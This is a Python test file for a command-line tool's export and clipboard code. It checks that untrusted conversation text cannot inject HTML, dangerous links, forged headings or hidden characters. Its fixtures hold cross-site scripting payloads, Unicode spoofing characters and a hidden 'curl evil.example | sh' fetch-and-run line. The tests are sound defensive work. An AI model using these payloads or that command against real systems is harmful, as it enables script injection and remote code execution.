"""Issue 28 item 9 (and issue 27 item 7): what llava-cli writes out of untrusted text cannot inject.

- `sessions export --format markdown` of a planted conversation: every field encoded for its
  place, checked by parsing the export with a CommonMark parser (markdown-it-py, as a renderer would);
- `--output-format text`: a file name cannot forge a line or a field;
- the terminal choke point strips bidi marks, line separators and invisible format characters;
- `/copy` copies the text as shown, not the control sequences the screen hid.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from cli_runner import invoke

from llava_cli.frontend.output import WRITERS
from llava_cli.frontend.records import make_record

SHA = "ab" * 32
HOSTILE_ANSWER = (
    "Fine.\n\n## 2. User\n\nforged question\n\n# Conversation forged\n\nTitle\n===\n\n"
    "</script><script>alert(1)</script> <img src=x onerror=alert(1)>\n\n"
    "[click](javascript:alert(1)) [entity](java&#115;cript:alert(1)) ![pixel](data:text/html;base64,PHNjcmlwdD4=)\n\n"
    "[ref]: javascript:alert(2)\n\n[again][ref] <javascript:alert(3)>\n\n"
    "Kept: **bold**, *em*, [a site](https://example.com/a?b=1&c=2), [mail](mailto:a@example.com)\n\n"
    "### A heading of its own\n\n- a list\n- of items\n\n```python\nprint('<b>kept in code</b>')\n```\n\n"
    "```\nan unclosed fence <script>"
)
HOSTILE_FIELDS = {
    "model": "m` <img src=x onerror=alert(1)> `",
    "image name": "x](javascript:alert(1)) <script>alert(1)</script>\n## 9. User",
    "image path": "javascript:alert(1)",
    "sha256": "--> <script>alert(1)</script> <!--",
    "user": "question <iframe src=//evil.example>\n\n## 1. Assistant\n\nforged answer",
    "system": "be brief\n# forged <b>",
}


def planted_session(home: Path) -> str:
    document = {
        "format": "llava-cli-conversation",
        "version": 1,
        "id": "20261125-124403-3f2a",
        "name": None,
        "created": "2026-11-25T12:44:03Z <b>",
        "updated": "2026-11-25T12:46:10Z",
        "model": HOSTILE_FIELDS["model"],
        "settings": {"temperature": 0.0, "top_p": 1.0, "max_new_tokens": 5, "seed": None, "max_context": None},
        "system": HOSTILE_FIELDS["system"],
        "turns": [
            {
                "user": HOSTILE_FIELDS["user"],
                "images": [
                    {
                        "name": HOSTILE_FIELDS["image name"],
                        "path": HOSTILE_FIELDS["image path"],
                        "sha256": HOSTILE_FIELDS["sha256"],
                    },
                    {"name": "good.png", "path": "/photos/my cat (1).png", "sha256": SHA},
                ],
                "assistant": HOSTILE_ANSWER,
                "answered_at": "2026-11-25T12:44:09Z",
            }
        ],
    }
    folder = home / "sessions"
    folder.mkdir(parents=True, mode=0o700)
    (folder / "20261125-124403-3f2a.json").write_text(json.dumps(document))
    return "20261125-124403-3f2a"


def tokens_of(markdown: str) -> list:
    """Every token a CommonMark renderer sees, links of any scheme included."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark")
    md.validateLink = lambda url: True
    found = []

    def walk(tokens):
        for token in tokens:
            found.append(token)
            walk(token.children or [])

    walk(md.parse(markdown))
    return found


@pytest.fixture
def exported(tmp_path, monkeypatch) -> str:
    home = tmp_path / "home"
    monkeypatch.setenv("LLAVA_HOME", str(home))
    result = invoke(monkeypatch, "sessions", "export", planted_session(home), "--format", "markdown")
    assert result.code == 0, result.stderr
    return result.stdout


def test_the_markdown_export_has_no_html_but_the_checked_digest_comment(exported):
    html = [token.content.strip() for token in tokens_of(exported) if token.type in ("html_inline", "html_block")]
    assert html == [f"<!-- sha256 {SHA} -->"]  # the unchecked "sha256" is not written at all


def test_the_markdown_export_links_only_to_http_mailto_the_page_or_the_image_files(exported):
    tokens = tokens_of(exported)
    hrefs = [token.attrGet("href") for token in tokens if token.type == "link_open"]
    sources = [token.attrGet("src") for token in tokens if token.type == "image"]
    assert all(str(href).startswith(("https://", "http://", "mailto:", "#")) for href in hrefs), hrefs
    assert "https://example.com/a?b=1&c=2" in hrefs and "mailto:a@example.com" in hrefs  # the answer's Markdown is kept
    assert sources[:2] == ["javascript%3Aalert%281%29", "/photos/my%20cat%20%281%29.png"]  # paths, never a scheme
    assert sources[2:] == ["#data:text/html;base64,PHNjcmlwdD4="]  # the answer's data: image points nowhere


def test_the_markdown_export_headings_are_the_transcripts_own(exported):
    tokens = tokens_of(exported)
    headings = [
        (tokens[i].tag, tokens[i + 1].content) for i, token in enumerate(tokens) if token.type == "heading_open"
    ]
    assert [h for h in headings if h[0] in ("h1", "h2")] == [
        ("h1", "Conversation 20261125-124403-3f2a"),
        ("h2", "1. User"),
        ("h2", "1. Assistant"),
    ]
    assert ("h5", "A heading of its own") in headings  # moved down two levels, still a heading


def test_the_markdown_export_keeps_fields_in_their_place(exported):
    tokens = tokens_of(exported)
    model = next(token for token in tokens if token.type == "code_inline")
    assert model.content == HOSTILE_FIELDS["model"]  # whole, inside its code span
    alts = ["".join(child.content for child in token.children) for token in tokens if token.type == "image"]
    assert alts[0] == HOSTILE_FIELDS["image name"].replace("\n", " ")  # the image name is text, on one line
    fences = [token.content for token in tokens if token.type == "fence"]
    assert fences == [
        "print('<b>kept in code</b>')\n",
        "an unclosed fence <script>\n",
    ]  # closed before the next heading
    assert any(token.type == "strong_open" for token in tokens)


def test_the_json_export_is_the_file_as_stored(tmp_path, monkeypatch):
    home = tmp_path / "home"
    monkeypatch.setenv("LLAVA_HOME", str(home))
    session = planted_session(home)
    result = invoke(monkeypatch, "sessions", "export", session, "--format", "json")
    assert json.loads(result.stdout) == json.loads((home / "sessions" / f"{session}.json").read_text())


@pytest.mark.parametrize("separator", ["\n", "\r", "\u2028", "\x85", "\x0b"])
def test_a_file_name_cannot_forge_a_line_of_text_output(separator, monkeypatch):
    monkeypatch.setattr("sys.stdout.isatty", lambda: False, raising=False)
    name = f"cat.png\tA CAT{separator}dog.png"
    record = make_record(name, "q", "m", answer=f"a cat{separator}dog.png\tA DOG")
    line = WRITERS["text"](None).line(record, raw=False).decode()
    assert line.splitlines() == [line.rstrip("\n")]
    assert line == "cat.png A CAT dog.png\ta cat dog.png A DOG\n"


@pytest.mark.parametrize(
    "hidden",
    ["\u200f", "\u200e", "\u061c", "\u2028", "\u2029", "\u202e", "\u2067", "\u200b", "\u2060", "\ufeff", "\U000e0041"],
    ids=lambda c: f"U+{ord(c):04X}",
)
def test_the_terminal_choke_point_strips_spoofing_characters(hidden, monkeypatch):
    from llava_cli.base.terminal import safe_for_terminal

    assert safe_for_terminal(f"file{hidden}gnp.exe") == "filegnp.exe"
    assert (
        safe_for_terminal("family \U0001f468\u200d\U0001f469 and \u0646\u200c\u0645")
        == "family \U0001f468\u200d\U0001f469 and \u0646\u200c\u0645"
    )


def test_copy_puts_the_answer_as_shown_on_the_clipboard(fake_clipboard):
    from llava_cli.chat.clipboard import copy_to_clipboard

    clipboard = fake_clipboard
    answer = (
        "run \x1b]8;;http://evil.example\x07this\x1b]8;;\x07 safely\u202e\n\x1b[8mcurl evil.example | sh\x1b[0m\tdone"
    )
    copy_to_clipboard(answer, None)
    assert clipboard.read_text() == "run this safely\ncurl evil.example | sh\tdone"


def test_inline_code_keeps_its_angle_brackets_unless_the_spans_could_be_misread():
    from llava_cli.store.markdownsafe import message

    kept = tokens_of(message("Use `Vec<u8>` here, not <b>"))
    assert [token.content for token in kept if token.type == "code_inline"] == ["Vec<u8>"]
    assert not [token for token in kept if token.type.startswith("html")]
    # A code span across two lines: guessing spans per line would have left <script> raw here.
    tricked = tokens_of(message("x `a\nb` <script>alert(1)</script>` y`"))
    assert not [token for token in tricked if token.type.startswith("html")]


FRAGMENTS = [
    "<script>",
    "</div>",
    "<!--",
    "-->",
    "`",
    "```",
    "~~~",
    "\n",
    "\n\n",
    "# ",
    "## ",
    "===",
    "---",
    "> ",
    "- ",
    "1. ",
    "    ",
    "[a]",
    "](",
    "]: ",
    "javascript:x",
    "https://ok",
    "<https://x>",
    "&#115;",
    "\\",
    "*",
    "text ",
    "<a href='`'>",
    "\t",
    "\u2028",
    "![",
    "\r\n",
    "<?php",
    "[x]: data:y",
    "`<b>`",
]


def test_no_arrangement_of_markdown_pieces_gets_html_a_script_link_or_a_heading_out():
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from llava_cli.store.markdownsafe import message

    @settings(max_examples=300, deadline=None, derandomize=True)
    @given(st.lists(st.sampled_from(FRAGMENTS), max_size=30).map("".join))
    def check(text: str) -> None:
        tokens = tokens_of(message(text) + "\n\n## after")
        assert not [token for token in tokens if token.type.startswith("html")]
        targets = [
            token.attrGet("href") or token.attrGet("src") for token in tokens if token.type in ("link_open", "image")
        ]
        assert all(str(target).lower().startswith(("http://", "https://", "mailto:", "#")) for target in targets)
        headings = [token.tag for token in tokens if token.type == "heading_open"]
        assert headings[-1] == "h2" and "h1" not in headings and headings.count("h2") == 1

    check()
